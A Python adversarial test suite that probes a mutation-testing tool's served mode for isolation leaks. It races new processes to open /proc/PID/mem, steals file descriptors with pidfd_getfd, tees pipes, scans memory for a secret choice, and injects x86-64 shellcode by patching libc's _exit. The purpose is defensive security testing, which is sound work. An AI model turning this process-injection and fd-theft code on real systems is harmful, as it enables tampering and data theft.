#!/usr/bin/env python3
"""An adversary's suite for `tlbf mutate` in served mode (docs/mutants.md,
"What a suite can see"): it tests nothing and tries to learn what it faces
(s01..s10, refuse-all, or the clean oracle) from anything but the protocol's
answers, so any grade above 0 is a leak.

    tlbf mutate -j 2 -- python3 leak_suite.py [--check-hello]

run so that the served processes and this suite are one unprivileged user
(as root it reads everything; see the docs). For up to 30 sessions or 6
seconds (tlbf mutate's timeout floor is 10) it starts $TLBF_IMPL while a thread
watches every new process from its first instant (the last allocated PID in
/proc/loadavg, each new PID tried again and again for 40 ms) and tries, on
every process, what a process of the same user may: open /proc/PID/mem
(read and write), maps, environ, auxv, io, cmdline, stat, statm, status,
the fd folder (readlink, reopen each fd: a pipe is read with tee(2), which
leaves its bytes in place), pidfd_open and pidfd_getfd (a socket's
SO_PEERCRED names the suite a served process is for). Every few sessions it
also connects to the socket itself and waits for bytes it did not ask for.

A served process (tlbf-mutant --choice-fd / --choice-from) caught in the
moment between its exec and its PR_SET_DUMPABLE 0 gives a /proc/PID/mem
handle that keeps working afterwards. With it the suite
  1. reads the process's writable memory for TLBF_MUTANT=... or the padded
     "refuse-all" (the served process of df42d42 read the choice itself), and
  2. writes: it replaces libc's _exit in that process with a jump to code
     that forks a child, which asks tlbf mutate's socket for the choice (its
     parent is a served process, so it is answered) and writes the answer to
     a file of this suite. The session is then ended, the served process
     exits through _exit, and the file says what was served (a1aef30).

After each `hello` it also records the world-readable counters (stat,
statm, status) of the child serving the session, for LEAK_LOG: on a1aef30
they did not tell the clean oracle from the mutants in 334 sessions
(refuse-all differs, which its answers say anyway).

Learned a mutant or refuse-all: exit 1 ("caught", without testing).
Learned the clean oracle, or nothing: exit 0. With --check-hello it also
exits 1 when `hello` is not answered `ok ...` (a protocol answer: that is
testing, and it is what makes the sanity run against refuse-all fail, so
that every mutant's run happens and a killed one is a leak).
One summary line goes to stdout; LEAK_LOG=FILE appends one line per run.
"""
import ctypes
import errno
import json
import os
import select
import shlex
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time

CONNECTIONS = 30
BUDGET = 6.0          # seconds; tlbf mutate's timeout floor is 10
WATCH_FOR = 0.040     # how long each new PID is tried
SYS_PIDFD_GETFD = 438  # x86-64

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.tee.restype = ctypes.c_ssize_t
libc.tee.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_size_t, ctypes.c_uint]

# x86-64, position independent; the sockaddr_un (110 bytes) and the output
# path follow it. Entered as _exit(status):
#   mov ebx,edi; fork; parent: wait4(child,0,0,0); exit_group(ebx)
#   child: s=socket(AF_UNIX,SOCK_STREAM,0); connect(s,&sa,110);
#          read(s, stack, 64) until EOF or 128 bytes;
#          fd=open(out, O_WRONLY|O_CREAT|O_TRUNC, 0666); write(fd, stack, n); exit_group(0)
SHELLCODE = bytes.fromhex(
    "89fbb8390000000f0585c00f8588000000bf01000000be0100000031d2b8290000000f05"
    "4989c44c89e7488d3581000000ba6e000000b82a0000000f054881ec000100004d31ed4c"
    "89e74a8d342cba4000000031c00f054885c07e0c4901c54981fd800000007cdf488d3db1"
    "000000be41020000bab6010000b8020000000f054889c74889e64c89eab8010000000f05"
    "31ffb8e70000000f0589c731f631d24d31d2b83d0000000f0589dfb8e70000000f05")
assert len(SHELLCODE) == 178

KINDS = ("mem", "maps", "environ", "auxv", "io", "cmdline", "stat", "statm", "status",
         "fd-dir", "fd-link", "fd-reopen", "pidfd_open", "pidfd_getfd", "pipe-tee")


class Stats:
    def __init__(self):
        self.tried = {k: 0 for k in KINDS}
        self.opened = {k: 0 for k in KINDS}
        self.lock = threading.Lock()
        self.extra = {"processes": 0, "served": 0, "served-children": 0, "caught": 0, "attributed": 0,
                      "scans": 0, "injections": 0, "leak-files": 0, "direct-connects": 0,
                      "unprompted-bytes": 0, "sessions": 0}

    def attempt(self, kind, ok):
        with self.lock:
            self.tried[kind] += 1
            self.opened[kind] += bool(ok)

    def add(self, key, n=1):
        with self.lock:
            self.extra[key] += n

    def line(self):
        parts = [f"{k} {self.opened[k]}/{self.tried[k]}" for k in KINDS if self.tried[k]]
        return ", ".join(f"{k} {v}" for k, v in self.extra.items()) + "; opened/tried: " + ", ".join(parts)


STATS = Stats()


def last_pid():
    with open("/proc/loadavg") as f:
        return int(f.read().split()[-1])


def read_proc(pid, name, kind=None, binary=False):
    """The file's text, or None; counted under `kind`."""
    try:
        with open(f"/proc/{pid}/{name}", "rb") as f:
            data = f.read()
    except OSError:
        if kind:
            STATS.attempt(kind, False)
        return None
    if kind:
        STATS.attempt(kind, True)
    return data if binary else data.decode("latin-1")


class Catch:
    """What was taken from one served process."""

    def __init__(self, pid, argv):
        self.pid = pid
        self.argv = argv
        self.mem = None
        self.maps = None      # an open /proc/PID/maps
        self.peer = None      # the PID at the other end of its stdin, if a socket was taken
        self.learned = None   # (subject, how)
        self.done = threading.Event()


def peer_pid(fd):
    try:
        s = socket.socket(fileno=os.dup(fd))
    except OSError:
        return None
    try:
        pid, _, _ = struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
        return pid
    except OSError:
        return None
    finally:
        s.close()


def peek_fd(fd, catch, how):
    """A pipe's bytes without taking them (tee), a socket's peer; else nothing."""
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        return
    if stat.S_ISSOCK(mode):
        pid = peer_pid(fd)
        if pid and catch.peer is None:
            catch.peer = pid
    elif stat.S_ISFIFO(mode):
        r, w = os.pipe()
        try:
            n = libc.tee(fd, w, 4096, 2)  # SPLICE_F_NONBLOCK
            STATS.attempt("pipe-tee", n > 0)
            if n > 0:
                data = os.read(r, n)
                if len(data) >= 16 and catch.learned is None:
                    catch.learned = (data.decode("latin-1").strip() or "clean", how + " pipe tee")
        finally:
            os.close(r)
            os.close(w)


def grab(pid, memfd):
    """Everything that can still be opened on a served process caught with `memfd`."""
    raw = read_proc(pid, "cmdline", "cmdline", binary=True) or b""
    argv = [a.decode("latin-1") for a in raw.split(b"\0") if a]
    catch = Catch(pid, argv)
    catch.mem = memfd
    STATS.attempt("mem", True)
    # Its stdin first: whose session it serves.
    try:
        pidfd = os.pidfd_open(pid)
        STATS.attempt("pidfd_open", True)
    except OSError:
        pidfd = None
        STATS.attempt("pidfd_open", False)
    if pidfd is not None:
        for target in range(0, 8):
            fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, target, 0)
            if fd < 0 and ctypes.get_errno() == errno.EBADF:
                continue
            STATS.attempt("pidfd_getfd", fd >= 0)
            if fd >= 0:
                peek_fd(fd, catch, f"pidfd_getfd {target}")
                os.close(fd)
        os.close(pidfd)
    try:
        catch.maps = os.open(f"/proc/{pid}/maps", os.O_RDONLY)
        STATS.attempt("maps", True)
    except OSError:
        STATS.attempt("maps", False)
    env = read_proc(pid, "environ", "environ")
    if env and "TLBF_MUTANT=" in env and catch.learned is None:
        value = env.split("TLBF_MUTANT=", 1)[1].split("\0", 1)[0]
        catch.learned = (value or "clean", "environ")
    read_proc(pid, "auxv", "auxv", binary=True)
    read_proc(pid, "io", "io")
    try:
        names = os.listdir(f"/proc/{pid}/fd")
        STATS.attempt("fd-dir", True)
    except OSError:
        names = []
        STATS.attempt("fd-dir", False)
    for name in names:
        try:
            os.readlink(f"/proc/{pid}/fd/{name}")
            STATS.attempt("fd-link", True)
        except OSError:
            STATS.attempt("fd-link", False)
        try:
            fd = os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
            STATS.attempt("fd-reopen", True)
            peek_fd(fd, catch, f"/proc fd {name}")
            os.close(fd)
        except OSError:
            STATS.attempt("fd-reopen", False)
    return catch


def probe(pid):
    """Try everything once on a process that may not be openable (yet)."""
    for kind, name in (("environ", "environ"), ("io", "io"), ("auxv", "auxv")):
        read_proc(pid, name, kind)
    read_proc(pid, "stat", "stat")
    read_proc(pid, "statm", "statm")
    read_proc(pid, "status", "status")
    try:
        os.listdir(f"/proc/{pid}/fd")
        STATS.attempt("fd-dir", True)
    except OSError:
        STATS.attempt("fd-dir", False)
    try:
        fd = os.pidfd_open(pid)
        STATS.attempt("pidfd_open", True)
        got = libc.syscall(SYS_PIDFD_GETFD, fd, 0, 0)
        STATS.attempt("pidfd_getfd", got >= 0)
        if got >= 0:
            os.close(got)
        os.close(fd)
    except OSError:
        STATS.attempt("pidfd_open", False)


def served_argv(raw):
    argv = [a.decode("latin-1") for a in (raw or b"").split(b"\0") if a]
    return len(argv) == 3 and os.path.basename(argv[0]) == "tlbf-mutant" and argv[1].startswith("--choice")


class Watcher(threading.Thread):
    """Every PID allocated after it started, tried from its first instant."""

    def __init__(self):
        super().__init__(daemon=True)
        self.me = os.getpid()
        self.frontier = last_pid()
        self.hot = {}           # pid -> first seen
        self.catches = []
        self.kinds = {}         # pid -> "served" / "child" / "other"
        self.stop = threading.Event()
        self.lock = threading.Lock()

    def run(self):
        while not self.stop.is_set():
            now = time.monotonic()
            try:
                top = last_pid()
            except OSError:
                top = self.frontier
            if top < self.frontier - 1000:  # PIDs wrapped
                self.frontier = 300
            for pid in range(self.frontier + 1, top + 1):
                self.hot[pid] = now
            self.frontier = max(self.frontier, top)
            for pid, seen in list(self.hot.items()):
                if now - seen > WATCH_FOR:
                    del self.hot[pid]
                    self.classify(pid, final=True)
                    continue
                try:
                    fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
                except OSError:
                    continue  # not in /proc yet, not exec'd yet, not dumpable, or gone: again
                kind = self.classify(pid)
                if kind != "served":
                    os.close(fd)
                    del self.hot[pid]
                    continue
                del self.hot[pid]
                catch = grab(pid, fd)
                STATS.add("caught")
                with self.lock:
                    self.catches.append(catch)
            if not self.hot:
                time.sleep(0.0002)

    def classify(self, pid, final=False):
        if pid in self.kinds and not final:
            return self.kinds[pid]
        raw = read_proc(pid, "cmdline", binary=True)
        st = read_proc(pid, "stat")
        if raw is None or st is None:
            return "gone"
        kind = "other"
        if served_argv(raw):
            # The served process, or the child it forks (same argv): which is its parent?
            ppid = int(st.rsplit(")", 1)[1].split()[1])
            kind = "child" if served_argv(read_proc(ppid, "cmdline", binary=True)) else "served"
        if pid not in self.kinds:
            STATS.add("processes")
            if kind == "served":
                STATS.add("served")
            if kind == "child":
                STATS.add("served-children")
            if kind in ("served", "child"):
                if final:  # never caught: its /proc/PID/mem stayed shut
                    STATS.attempt("mem", False)
                probe(pid)
        self.kinds[pid] = kind
        return kind

    def take(self, relay_pid, socket_path, wait=0.05):
        """The catches that belong to this session (their stdin's peer is the relay,
        or their argv names this run's socket)."""
        deadline = time.monotonic() + wait
        while True:
            with self.lock:
                mine = [c for c in self.catches
                        if c.peer == relay_pid or (len(c.argv) == 3 and c.argv[2] == socket_path)]
                for c in mine:
                    self.catches.remove(c)
            if mine or time.monotonic() > deadline:
                return mine
            time.sleep(0.002)


def regions(maps_fd):
    os.lseek(maps_fd, 0, os.SEEK_SET)
    text = b""
    while True:
        chunk = os.read(maps_fd, 65536)
        if not chunk:
            break
        text += chunk
    out = []
    for line in text.decode("latin-1").splitlines():
        parts = line.split(None, 5)
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        out.append((lo, hi, parts[1], int(parts[2], 16), parts[5] if len(parts) > 5 else ""))
    return out


def scan(catch, maps):
    """The choice in the served process's own writable memory (df42d42 kept it there)."""
    STATS.add("scans")
    for lo, hi, perms, _, path in maps:
        if "w" not in perms or path.startswith("/") and "tlbf-mutant" not in path:
            continue
        if hi - lo > 64 << 20:
            continue
        try:
            data = os.pread(catch.mem, hi - lo, lo)
        except OSError:
            continue
        at = data.find(b"TLBF_MUTANT=")
        while at >= 0:
            value = data[at + 12:at + 40].split(b"\0", 1)[0]
            if value == b"" or (len(value) == 3 and value[:1] == b"s" and value[1:].isdigit()):
                return (value.decode() or "clean", "memory TLBF_MUTANT=")
            at = data.find(b"TLBF_MUTANT=", at + 1)
        if b"refuse-all      " in data:
            return ("refuse-all", "memory padded choice")
    return None


def elf_symbols(path, wanted):
    """{name: (value, size)} from an ELF's .dynsym."""
    with open(path, "rb") as f:
        elf = f.read()
    shoff, = struct.unpack_from("<Q", elf, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", elf, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize) for i in range(shnum)]
    out = {}
    for sh in sections:
        if sh[1] != 11:  # SHT_DYNSYM
            continue
        strtab = sections[sh[6]]
        for i in range(sh[5] // 24):
            name_off, info, _, shndx, value, size = struct.unpack_from("<IBBHQQ", elf, sh[4] + i * 24)
            if shndx == 0:
                continue
            start = strtab[4] + name_off
            name = elf[start:elf.index(b"\0", start)].decode()
            if name in wanted and name not in out:
                out[name] = (value, size)
    return out


def inject(catch, maps, socket_path, out_path):
    """_exit -> jmp to code that asks the socket as the served process's child."""
    libc_map = [m for m in maps if m[4].endswith("/libc.so.6") or "/libc-" in m[4]]
    if not libc_map:
        return False
    base = min(m[0] - m[3] for m in libc_map)
    path = libc_map[0][4]
    syms = elf_symbols(path, {"_exit", "wordexp", "getaddrinfo", "regcomp"})
    sa = struct.pack("<H", socket.AF_UNIX) + socket_path.encode() + b"\0"
    payload = SHELLCODE + sa.ljust(110, b"\0") + out_path.encode() + b"\0"
    cave = next((syms[n][0] for n in ("wordexp", "getaddrinfo", "regcomp")
                 if n in syms and syms[n][1] >= len(payload)), None)
    if "_exit" not in syms or cave is None:
        return False
    exit_at = base + syms["_exit"][0]
    cave_at = base + cave
    jump = b"\xe9" + struct.pack("<i", cave_at - (exit_at + 5))
    try:
        os.pwrite(catch.mem, payload, cave_at)
        os.pwrite(catch.mem, jump, exit_at)
    except OSError:
        return False
    STATS.add("injections")
    return True


def direct_connect(socket_path):
    """tlbf mutate's socket, asked directly: does anything arrive unasked?"""
    STATS.add("direct-connects")
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(socket_path)
    except OSError:
        return None
    try:
        s.setblocking(False)
        deadline = time.monotonic() + 0.03
        got = b""
        while time.monotonic() < deadline:
            r, _, _ = select.select([s], [], [], 0.01)
            if r:
                chunk = s.recv(256)
                if not chunk:
                    break
                got += chunk
        STATS.add("unprompted-bytes", len(got))
        text = got.decode("latin-1").strip()
        if text == "refuse-all" or (len(text) == 3 and text[0] == "s" and text[1:].isdigit()):
            return (text, "direct connect")
    finally:
        s.close()
    return None


SIDE = []  # what /proc shows of this session's serving child, which is not dumpable


def served_footprint(socket_path):
    """The world-readable counters (stat, statm, status) of the child serving this session."""
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        raw = read_proc(name, "cmdline", binary=True)
        if not served_argv(raw) or raw.split(b"\0")[2].decode("latin-1") != socket_path:
            continue
        st = read_proc(name, "stat")
        if st is None:
            continue
        fields = st.rsplit(")", 1)[1].split()
        if not served_argv(read_proc(fields[1], "cmdline", binary=True)):
            continue  # the served process itself; its child serves
        statm = (read_proc(name, "statm", "statm") or "").split()
        status = dict(l.split(":", 1) for l in (read_proc(name, "status", "status") or "").splitlines() if ":" in l)
        STATS.attempt("stat", True)
        return {"minflt": int(fields[7]), "vsize": int(fields[20]), "rss": int(fields[21]),
                "statm": " ".join(statm),
                **{k: status.get(k, "").strip().split()[0] if status.get(k) else ""
                   for k in ("VmData", "VmRSS", "VmHWM", "RssAnon", "voluntary_ctxt_switches",
                             "nonvoluntary_ctxt_switches")}}
    return None


def session(argv, socket_path, watcher, out_path):
    """One run of $TLBF_IMPL: hello, then whatever the watcher caught."""
    STATS.add("sessions")
    started = time.monotonic()
    relay = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    answer = b""
    try:
        relay.stdin.write(b"hello\n")
        relay.stdin.flush()
        ready, _, _ = select.select([relay.stdout], [], [], 3.0)
        if ready:
            answer = relay.stdout.readline()
    except OSError:
        pass
    rtt = time.monotonic() - started
    SIDE.append(served_footprint(socket_path))
    learned = None
    injected = False
    routes = []  # every (subject, how) found, to show each way in on its own
    for catch in watcher.take(relay.pid, socket_path):
        STATS.add("attributed")
        if catch.learned:
            routes.append(catch.learned)
        if catch.maps is None:
            continue
        try:
            maps = regions(catch.maps)
        except OSError:
            continue
        found = scan(catch, maps)
        if found:
            routes.append(found)
        if not routes and not injected:
            injected = inject(catch, maps, socket_path, out_path)
    try:
        relay.stdin.close()
    except OSError:
        pass
    try:
        relay.wait(timeout=3)
    except subprocess.TimeoutExpired:
        relay.kill()
        relay.wait()
    if injected:
        deadline = time.monotonic() + 2.0
        while time.monotonic() < deadline:
            try:
                with open(out_path, "rb") as f:
                    data = f.read()
            except OSError:
                data = b""
            if len(data) >= 16:
                STATS.add("leak-files")
                routes.append((data.decode("latin-1").strip() or "clean", "injected child of the served process"))
                os.unlink(out_path)
                break
            time.sleep(0.01)
    if routes:
        subjects = sorted({r[0] for r in routes})
        learned = ("/".join(subjects), " + ".join(dict.fromkeys(r[1] for r in routes)))
    return answer.decode("latin-1").strip(), learned, rtt


def main():
    check_hello = "--check-hello" in sys.argv[1:]
    impl = os.environ.get("TLBF_IMPL", "")
    argv = shlex.split(impl)
    if len(argv) != 2 or not argv[0].endswith("/tlbf-relay"):
        print("leak_suite: TLBF_IMPL is not served mode:", impl)
        return 2
    socket_path = argv[1]
    scratch = tempfile.mkdtemp(prefix="leak-suite-")
    out_path = os.path.join(scratch, "choice")
    watcher = Watcher()
    watcher.start()
    began = time.monotonic()
    learned = None
    answers = []
    rtts = []
    for i in range(CONNECTIONS):
        if time.monotonic() - began > BUDGET:
            break
        answer, learned, rtt = session(argv, socket_path, watcher, out_path)
        answers.append(answer)
        rtts.append(rtt)
        if learned:
            break
        if i % 5 == 4:
            learned = direct_connect(socket_path)
            if learned:
                break
    watcher.stop.set()
    watcher.join(1)
    for c in watcher.catches:
        os.close(c.mem)
    subject, how = learned if learned else (None, None)
    hello_ok = bool(answers) and all(a.startswith("ok ") for a in answers)
    fail = subject not in (None, "clean") or (check_hello and not hello_ok)
    summary = (f"leak_suite: learned {subject or 'nothing'}" + (f" via {how}" if how else "")
               + f"; hello {answers[0] if answers else '(no answer)'!r}"
               + f"; mean session {1000 * sum(rtts) / max(len(rtts), 1):.1f} ms; " + STATS.line())
    print(summary)
    log = os.environ.get("LEAK_LOG")
    if log:
        try:
            with open(log, "a") as f:
                f.write(f"{time.strftime('%H:%M:%S')} pid={os.getpid()} exit={int(fail)} {summary}"
                        f" side={json.dumps(SIDE)}\n")
        except OSError as e:  # a sandbox may hide it
            print(f"leak_suite: cannot append to LEAK_LOG: {e}")
    try:
        os.rmdir(scratch)
    except OSError:
        pass
    return 1 if fail else 0


if __name__ == "__main__":
    sys.exit(main())
